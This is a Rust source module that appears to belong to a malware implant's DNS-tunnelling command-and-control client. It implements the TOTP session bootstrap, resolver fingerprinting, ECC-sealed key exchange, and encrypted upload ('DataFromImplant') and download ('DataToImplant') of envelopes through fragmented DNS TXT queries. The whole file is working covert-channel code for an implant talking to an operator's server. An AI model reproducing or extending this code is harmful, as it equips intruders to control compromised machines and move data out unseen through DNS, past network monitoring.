//! The session: handshake, outbound writes, inbound parallel reads, and
//! shutdown.

use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicUsize, Ordering};
use std::sync::Arc;

use log::{debug, info, warn};
use rand::seq::SliceRandom;
use rand::Rng;

use crate::cipher::CipherContext;
use crate::cipher::EccEncryptor;
use crate::config::ClientConfig;
use crate::encoding::{Base32Encoder, Base58Encoder, Encoder};
use crate::error::{Result, TunnelError};
use crate::fingerprint::{fingerprint_all, ResolverMetadata};
use crate::framer::{join_subdata, normalize_parent, split_buffer, subdata_space, DnsMessage, MessageType};
use crate::ids::msg_id;
use crate::resolver::{QueryType, Resolver, RetryPolicy, UdpResolver};
use crate::totp::TotpCode;
use crate::worker::{Work, WorkerHandle};

pub const BYTES_PER_TXT: usize = 182;

/// The "no envelope pending" sentinel returned by a successful poll with
/// an empty answer.
pub type PollResult = Option<Vec<u8>>;

/// Owns the cipher context, DNS session id, message counter, and
/// per-resolver metadata/workers for one bootstrapped tunnel session.
pub struct Session {
    parent: String,
    subdata_space: usize,
    force_base32: bool,

    dns_session_id: u32,
    msg_count: AtomicU32,
    cipher_ctx: Box<dyn CipherContext>,

    resolvers: Vec<Arc<dyn Resolver>>,
    metadata: HashMap<String, ResolverMetadata>,
    workers: Vec<WorkerHandle>,
    worker_index: AtomicUsize,

    closed: AtomicBool,
}

impl Session {
    /// Runs the full bootstrap handshake described in §4.6 and returns a
    /// ready-to-use session, or the first fatal error encountered.
    pub async fn init(
        config: &ClientConfig,
        totp: Arc<dyn TotpCode>,
        ecc: Arc<dyn EccEncryptor>,
    ) -> Result<Session> {
        config.validate()?;
        let parent = normalize_parent(&config.parent);
        let space = subdata_space(&parent);

        let policy = RetryPolicy {
            retry_count: config.retry_count,
            retry_wait: config.retry_wait(),
            query_timeout: config.query_timeout(),
        };

        let addrs = config.resolver_addrs()?;
        if addrs.is_empty() {
            return Err(TunnelError::NoResolvers);
        }
        let resolvers: Vec<Arc<dyn Resolver>> = addrs
            .into_iter()
            .map(|addr| Arc::new(UdpResolver::new(addr, policy.clone())) as Arc<dyn Resolver>)
            .collect();

        // Step 2: TOTP / session id bootstrap.
        let dns_session_id = Self::bootstrap_session_id(&resolvers, &parent, space, totp.as_ref()).await?;
        info!("bootstrapped dns_session_id=0x{dns_session_id:06x}");

        // Step 3: fingerprint all resolvers, evict failures.
        let all_metadata = fingerprint_all(&resolvers, &parent, dns_session_id, config.force_base32).await;
        let mut surviving_resolvers = Vec::new();
        let mut metadata = HashMap::new();
        for (resolver, meta) in resolvers.into_iter().zip(all_metadata.into_iter()) {
            if meta.errors == 0 {
                metadata.insert(meta.address.clone(), meta);
                surviving_resolvers.push(resolver);
            } else {
                warn!("evicting resolver {} after {} fingerprint errors", meta.address, meta.errors);
            }
        }
        if surviving_resolvers.is_empty() {
            return Err(TunnelError::NoResolvers);
        }

        // Step 4: key agreement.
        let mut session_key = [0u8; 32];
        rand::thread_rng().fill(&mut session_key);
        let cipher_ctx: Box<dyn CipherContext> = Box::new(crate::cipher::ChaCha20Poly1305Context::new(&session_key));
        let sealed_key = ecc.encrypt_to_server(&session_key)?;

        let msg_count = AtomicU32::new(0);
        let init_id = msg_id(next_ordinal(&msg_count), dns_session_id);

        let handshake_resolver = surviving_resolvers
            .choose(&mut rand::thread_rng())
            .expect("non-empty after eviction check")
            .clone();
        let handshake_meta = metadata
            .get(handshake_resolver.address())
            .expect("metadata present for every surviving resolver");
        let encoder = Self::choose_encoder(handshake_meta, config.force_base32);

        let mut init_msg = DnsMessage::new(MessageType::Init);
        init_msg.id = init_id;
        init_msg.size = sealed_key.len() as u32;

        let answer = serial_send(
            handshake_resolver.as_ref(),
            encoder.as_ref(),
            &parent,
            space,
            &init_msg,
            &sealed_key,
        )
        .await?;

        // Step 5: validate the aggregated answer's embedded session id.
        let plaintext = cipher_ctx.decrypt(&answer)?;
        if plaintext.len() < 4 {
            return Err(TunnelError::InvalidResponse);
        }
        let echoed = u32::from_le_bytes([plaintext[0], plaintext[1], plaintext[2], plaintext[3]]);
        if echoed & crate::ids::SESSION_ID_BITMASK != dns_session_id {
            return Err(TunnelError::InvalidResponse);
        }

        // Step 6: spawn one worker per surviving resolver.
        let workers: Vec<WorkerHandle> = surviving_resolvers
            .iter()
            .cloned()
            .map(WorkerHandle::spawn)
            .collect();

        debug!("session ready with {} resolvers", surviving_resolvers.len());

        Ok(Session {
            parent,
            subdata_space: space,
            force_base32: config.force_base32,
            dns_session_id,
            msg_count,
            cipher_ctx,
            resolvers: surviving_resolvers,
            metadata,
            workers,
            worker_index: AtomicUsize::new(0),
            closed: AtomicBool::new(false),
        })
    }

    async fn bootstrap_session_id(
        resolvers: &[Arc<dyn Resolver>],
        parent: &str,
        space: usize,
        totp: &dyn TotpCode,
    ) -> Result<u32> {
        let code = totp.otp_code()?;
        let code_int: u32 = code.parse().map_err(|_| TunnelError::InvalidDNSSessionID)?;

        let mut msg = DnsMessage::new(MessageType::Totp);
        msg.id = code_int;
        let encoder = Base32Encoder;
        let encoded = encoder.encode(&msg.encode());
        let fqdn = join_subdata(&encoded, parent, space)?;

        for resolver in resolvers {
            match resolver.a(&fqdn).await {
                Ok((answer, _rtt)) if answer.len() == 4 => {
                    let raw = u32::from_le_bytes([answer[0], answer[1], answer[2], answer[3]]);
                    let masked = raw & crate::ids::SESSION_ID_BITMASK;
                    if masked != 0 {
                        return Ok(masked);
                    }
                }
                Ok(_) => continue,
                Err(_) => continue,
            }
        }

        Err(TunnelError::InvalidDNSSessionID)
    }

    fn choose_encoder(meta: &ResolverMetadata, force_base32: bool) -> Box<dyn Encoder> {
        if !force_base32 && meta.enable_base58 {
            Box::new(Base58Encoder)
        } else {
            Box::new(Base32Encoder)
        }
    }

    fn next_msg_id(&self) -> u32 {
        msg_id(next_ordinal(&self.msg_count), self.dns_session_id)
    }

    fn pick_resolver(&self) -> (Arc<dyn Resolver>, Box<dyn Encoder>) {
        let resolver = self
            .resolvers
            .choose(&mut rand::thread_rng())
            .expect("session always holds at least one resolver")
            .clone();
        let meta = self
            .metadata
            .get(resolver.address())
            .expect("metadata present for every session resolver");
        (resolver, Self::choose_encoder(meta, self.force_base32))
    }

    /// Writes an application envelope, fragmented and sent in order on a
    /// single randomly chosen resolver.
    pub async fn write_envelope(&self, envelope: &[u8]) -> Result<()> {
        if self.closed.load(Ordering::SeqCst) {
            return Err(TunnelError::Closed);
        }

        let (resolver, encoder) = self.pick_resolver();
        let mut msg = DnsMessage::new(MessageType::DataFromImplant);
        msg.id = self.next_msg_id();
        msg.size = envelope.len() as u32;

        serial_send(
            resolver.as_ref(),
            encoder.as_ref(),
            &self.parent,
            self.subdata_space,
            &msg,
            envelope,
        )
        .await?;
        Ok(())
    }

    /// Polls for a pending envelope and, if one is manifested, reassembles
    /// it via the parallel worker pool.
    pub async fn read_envelope(&self) -> Result<PollResult> {
        if self.closed.load(Ordering::SeqCst) {
            return Err(TunnelError::Closed);
        }

        let (resolver, encoder) = self.pick_resolver();

        let poll_msg = DnsMessage::new(MessageType::Poll);
        let encoded = encoder.encode(&poll_msg.encode());
        let fqdn = join_subdata(&encoded, &self.parent, self.subdata_space)?;
        let answer = resolver.txt(&fqdn).await?;

        if answer.is_empty() {
            return Ok(None);
        }

        let manifest = DnsMessage::decode(&answer)?;
        if manifest.msg_type != Some(MessageType::Manifest) {
            return Err(TunnelError::InvalidResponse);
        }
        let size = manifest.size as usize;
        let manifest_id = manifest.id;

        // Unlike the POLL query above, these fragments fan out round-robin
        // across every surviving resolver, whose base58 tolerance was never
        // individually verified for this request shape; always base32
        // encode here regardless of the resolver that issued the poll.
        let downlink_encoder = Base32Encoder;

        let mut receivers = Vec::new();
        let mut start = 0usize;
        while start < size {
            let stop = (start + BYTES_PER_TXT).min(size);

            let mut req = DnsMessage::new(MessageType::DataToImplant);
            req.id = manifest_id;
            req.start = start as u32;
            req.stop = stop as u32;

            let encoded = downlink_encoder.encode(&req.encode());
            let fqdn = join_subdata(&encoded, &self.parent, self.subdata_space)?;

            let (tx, rx) = tokio::sync::oneshot::channel();
            let worker_idx = self.worker_index.fetch_add(1, Ordering::SeqCst) % self.workers.len();
            self.workers[worker_idx]
                .submit(Work {
                    query_type: QueryType::Txt,
                    domain: fqdn,
                    sink: tx,
                })
                .await?;

            receivers.push((start, stop, rx));
            start = stop;
        }

        let mut buffer = vec![0u8; size];
        for (start, stop, rx) in receivers {
            let bytes = rx.await.map_err(|_| TunnelError::InvalidResponse)??;
            let fragment = DnsMessage::decode(&bytes)?;
            if fragment.msg_type != Some(MessageType::DataToImplant) {
                return Err(TunnelError::InvalidResponse);
            }
            let frag_start = fragment.start as usize;
            if frag_start > size || frag_start + fragment.data.len() > size {
                return Err(TunnelError::InvalidIndex);
            }
            if frag_start != start || frag_start + fragment.data.len() != stop {
                // Downlink fragments carry absolute offsets and can land
                // independently; scheduling order is irrelevant, but a
                // fragment must still cover the slot it was requested for.
                return Err(TunnelError::InvalidIndex);
            }
            buffer[frag_start..frag_start + fragment.data.len()].copy_from_slice(&fragment.data);
        }

        let plaintext = self.cipher_ctx.decrypt(&buffer)?;
        Ok(Some(plaintext))
    }

    /// Tears down every worker via the control/echo rendezvous. Idempotent.
    pub async fn close(&mut self) {
        if self.closed.swap(true, Ordering::SeqCst) {
            return;
        }
        for worker in &mut self.workers {
            worker.shutdown().await;
        }
    }

    pub fn dns_session_id(&self) -> u32 {
        self.dns_session_id
    }

    pub fn resolver_count(&self) -> usize {
        self.resolvers.len()
    }
}

fn next_ordinal(msg_count: &AtomicU32) -> u32 {
    let n = msg_count.fetch_add(1, Ordering::SeqCst) + 1;
    n % 255
}

/// Fragments `data` via `split_buffer` and issues `TXT` queries strictly
/// in order against a single resolver, concatenating answers. Aborts on
/// the first error.
async fn serial_send(
    resolver: &dyn Resolver,
    encoder: &dyn Encoder,
    parent: &str,
    space: usize,
    template: &DnsMessage,
    data: &[u8],
) -> Result<Vec<u8>> {
    let fragments = split_buffer(template, encoder, space, data)?;
    let mut out = Vec::new();
    for fragment in fragments {
        let encoded = encoder.encode(&fragment.encode());
        let fqdn = join_subdata(&encoded, parent, space)?;
        let (answer, _rtt) = resolver.txt(&fqdn).await?;
        out.extend_from_slice(&answer);
    }
    Ok(out)
}
